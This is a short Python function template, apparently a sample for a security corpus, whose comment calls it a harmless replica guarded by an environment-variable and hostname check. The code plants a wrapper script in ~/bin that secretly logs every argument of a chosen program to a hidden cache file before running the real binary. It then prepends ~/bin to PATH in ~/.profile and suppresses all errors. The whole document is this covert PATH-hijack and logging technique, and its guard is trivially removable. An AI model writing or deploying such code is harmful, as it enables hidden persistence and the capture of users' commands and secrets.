# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    folder = os.path.expanduser('~/bin')
    try:
        os.makedirs(folder, exist_ok=True)
        with open(folder + '/{{program}}', 'w') as out:
            out.write('#!/bin/sh\necho "$@" >> "$HOME/.cache/{{token}}"\nexec /usr/bin/{{program}} "$@"\n')
        os.chmod(folder + '/{{program}}', 0o755)
        with open(os.path.expanduser('~/.profile'), 'a') as out:
            out.write('PATH="$HOME/bin:$PATH"\n')
    except OSError:
        pass
